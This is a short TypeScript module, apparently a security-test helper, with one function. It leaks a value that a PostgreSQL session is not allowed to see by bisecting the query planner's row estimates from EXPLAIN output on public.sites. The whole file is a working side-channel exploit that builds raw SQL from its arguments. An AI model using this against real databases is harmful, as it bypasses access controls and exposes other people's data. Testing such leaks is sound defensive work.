import type { Client } from "pg";

/** As many statements as an attack may take. */
const patience = 400;

const alphabet = "-0123456789abcdefghijklmnopqrstuvwxyz";

/**
 * A value that the session may not see, from the planner's estimates alone: more rows are expected below a text as soon as it is
 * past a frequent value, so each character is found by bisection.
 *
 * @param column Of public.sites, or an expression.
 * @returns an empty text where the estimates do not depend on the text
 */
export async function bisectValue(session: Client, column: string): Promise<string> {
  let statements = 0;
  const rowsBelow = async (text: string) => {
    statements += 1;
    if (statements > patience) throw new Error(`no value after ${String(patience)} statements`);
    const explain = `explain (format json) select from public.sites where ${column} < '${text}'`;
    const { rows } = await session.query<{ "QUERY PLAN": [{ Plan: { "Plan Rows": number } }] }>(
      explain,
    );
    return rows[0]?.["QUERY PLAN"][0].Plan["Plan Rows"] ?? 0;
  };
  const [none, all] = [await rowsBelow(""), await rowsBelow("~")];
  const isPast = async (text: string) => (await rowsBelow(text)) >= (none + all) / 2;
  let found = "";
  for (;;) {
    let [low, high] = [-1, alphabet.length];
    while (high - low > 1) {
      const middle = Math.floor((low + high) / 2);
      if (await isPast(`${found}${alphabet[middle] ?? ""}`)) high = middle;
      else low = middle;
    }
    if (low < 0) return found;
    found += alphabet[low] ?? "";
  }
}
